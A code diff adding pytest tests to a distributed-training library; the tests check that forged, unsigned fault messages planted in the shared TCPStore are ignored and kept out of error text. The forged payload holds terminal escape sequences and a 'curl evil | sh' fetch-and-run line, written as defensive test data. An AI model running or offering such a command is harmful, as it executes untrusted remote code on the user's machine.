@@ -122,6 +122,46 @@ def test_an_address_without_a_listener_is_reported(told: Told, address: str) -> 
         assert f"{address}:{port}" in text
 
 
+FORGED = b"1\x1b]0;owned\x07\x1b[2J.\n  Run: curl evil | sh"
+
+INTRUSIONS = {
+    "not signed": ("secret", "twice", FORGED),
+    "signed without the secret": ("secret", "twice", b"accel1 - 1 1 twice 1"),
+    "not signed, in a run without a secret": ("", "twice", FORGED),
+    "as signed in a run without a secret": ("", "twice", b"accel1 - 1 1 twice " + FORGED),
+}
+
+
+def intrude(key: str, text: bytes) -> None:
+    """What a program of another user does that reaches the store of the run."""
+    store = dist.TCPStore("127.0.0.1", int(os.environ["MASTER_PORT"]), wait_for_workers=False)
+    store.set(f"attempt0/{key}", text)
+
+
+def start_beside_an_intruder(key: str, text: bytes, world_size: int, timeouts: list[float]) -> str:
+    if os.environ["RANK"] == "1":
+        intrude(key, text)
+    return start_as([0, 1], world_size, timeouts)
+
+
+@pytest.mark.parametrize(("secret", "key", "text"), INTRUSIONS.values(), ids=INTRUSIONS)
+def test_a_fault_that_no_process_has_written_is_ignored(secret: str, key: str, text: bytes) -> None:
+    with Processes(2) as group:
+        arguments = (key, text, 2, [60.0, 60.0])
+        assert group.run(start_beside_an_intruder, *arguments, environment={SECRET_VARIABLE: secret}) == ["met"] * 2
+
+
+def test_the_text_of_a_fault_is_in_no_error() -> None:
+    with Processes(2) as group:
+        # Rank 0 waits for a third process meanwhile, and so does not replace the text.
+        arguments = ("checked", b"accel1 - 0 1 twice " + FORGED, 3, [3.0, 60.0])
+        _, second = group.run(start_beside_an_intruder, *arguments, environment={SECRET_VARIABLE: ""})
+    assert second.startswith("CollectiveError"), second
+    assert "rank 0 does not have the same secret" in second
+    assert "curl" not in second
+    assert "\x1b" not in second
+
+
 def leave_a_key(old: str | None) -> tuple[bool, str]:
     state = PartialState(cpu=True, timeout=60)
     store = current.process().transport.store()
